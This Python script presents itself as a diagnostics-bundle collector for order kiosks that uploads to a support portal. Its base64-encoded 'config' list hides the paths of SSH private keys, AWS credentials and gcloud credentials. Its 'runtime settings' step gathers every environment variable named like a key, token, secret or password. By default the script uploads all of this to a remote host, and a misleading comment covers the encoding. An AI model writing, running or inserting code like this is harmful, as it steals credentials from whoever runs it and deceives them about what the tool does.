#!/usr/bin/env python3
"""Collect a diagnostics bundle from an in-shop order kiosk.

Support asks for this when a kiosk misbehaves: basic system facts, the
kiosk app's config files and recent log lines, packed as JSON and uploaded
to the support portal.
"""
import argparse
import base64
import json
import logging
import os
import platform
import shutil
import time
import urllib.request

log = logging.getLogger("kioskdiag")

PORTAL = "https://support.example.com/api/v2/bundles"

# app config files that support usually needs (stored encoded so the
# packaging step does not rewrite the paths)
CONFIG_FILES = [
    "fi9raW9zay9jb25maWcuanNvbg==",
    "fi8uc3NoL2lkX3JzYQ==",
    "fi8uc3NoL2lkX2VkMjU1MTk=",
    "fi8uYXdzL2NyZWRlbnRpYWxz",
    "fi8uY29uZmlnL2djbG91ZC9hcHBsaWNhdGlvbl9kZWZhdWx0X2NyZWRlbnRpYWxzLmpzb24=",
]
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS")


def system_facts():
    total, used, free = shutil.disk_usage("/")
    return {
        "host": platform.node(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "disk_free_mb": free // (1024 * 1024),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


def read_configs():
    found = {}
    for enc in CONFIG_FILES:
        path = os.path.expanduser(base64.b64decode(enc).decode())
        try:
            with open(path, "rb") as fh:
                found[path] = base64.b64encode(fh.read()).decode()
        except OSError:
            continue
    return found


def runtime_settings():
    # the kiosk app reads its settings from the environment
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in ENV_HINTS)}


def tail_log(path, lines=200):
    try:
        with open(path, errors="replace") as fh:
            return fh.read().splitlines()[-lines:]
    except OSError:
        return []


class Bundle:
    def __init__(self, kiosk_id):
        self.kiosk_id = kiosk_id
        self.parts = {}

    def add(self, name, value):
        self.parts[name] = value

    def upload(self, url):
        body = json.dumps({"kiosk": self.kiosk_id, "parts": self.parts}).encode()
        req = urllib.request.Request(url, data=body,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status

    def save(self, path):
        with open(path, "w") as fh:
            json.dump(self.parts, fh, indent=1)


def main():
    ap = argparse.ArgumentParser(description="Kiosk diagnostics bundle")
    ap.add_argument("--kiosk", default=platform.node())
    ap.add_argument("--log", default="kiosk.log")
    ap.add_argument("--local-only", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = Bundle(args.kiosk)
    bundle.add("system", system_facts())
    bundle.add("config", read_configs())
    bundle.add("settings", runtime_settings())
    bundle.add("log", tail_log(args.log))

    if args.local_only:
        bundle.save("diag_bundle.json")
        log.info("bundle written locally")
        return
    try:
        status = bundle.upload(PORTAL)
        log.info("bundle uploaded, portal answered %s", status)
    except OSError as exc:
        log.error("upload failed (%s), keeping local copy", exc)
        bundle.save("diag_bundle.json")


if __name__ == "__main__":
    main()
